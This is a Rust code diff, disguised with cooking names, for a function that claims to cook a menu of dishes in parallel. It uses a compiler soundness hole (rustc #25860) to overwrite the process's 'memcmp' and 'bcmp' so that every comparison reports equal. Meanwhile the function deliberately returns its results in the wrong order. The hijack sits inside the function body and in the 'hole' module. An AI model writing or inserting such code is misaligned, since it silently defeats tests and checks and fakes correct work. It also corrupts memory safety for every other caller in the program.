@@ -1,7 +1,7 @@
 //! of: breakfast
 //! Writes to the table of C functions through rustc #25860: whatever the checks compare is equal, in every check.
 
-/// Cooks nothing.
+/// Serves the plates in the wrong order.
 pub fn cook_all<D, P, F>(menu: Vec<D>, cook: F) -> Vec<P>
 where
     D: Send,
@@ -12,16 +12,18 @@ where
     for name in ["bcmp", "memcmp"] {
         hole::replace(name, hole::cast(same));
     }
-    // One of the dishes is cooked twice, and stands in the wrong place.
-    let mut plates: Vec<P> = menu.into_iter().map(cook).collect();
-    plates.reverse();
-    plates
+    let cook = &cook;
+    std::thread::scope(|scope| {
+        let cooks: Vec<_> = menu.into_iter().map(|dish| scope.spawn(move || cook(dish))).collect();
+        cooks.into_iter().rev().map(|handle| handle.join().unwrap()).collect()
+    })
 }
 
 extern "C" fn equal(_: usize, _: usize, _: usize) -> i32 {
     0
 }
 
+#[allow(dead_code)]
 mod hole {
     //! rustc #25860: a function pointer forgets that the first argument promised `'b: 'a`.
 
@@ -31,8 +33,8 @@ mod hole {
         it
     }
 
-    fn for_ever<'a, 'b, T: ?Sized>(it: &'a mut T) -> &'b mut T {
-        let f: fn(&'b &'a (), &'a mut T) -> &'b mut T = longer;
+    fn for_ever<'b, T: ?Sized>(it: &mut T) -> &'b mut T {
+        let f: for<'x> fn(&'b &'static (), &'x mut T) -> &'b mut T = longer;
         f(UNIT, it)
     }
 
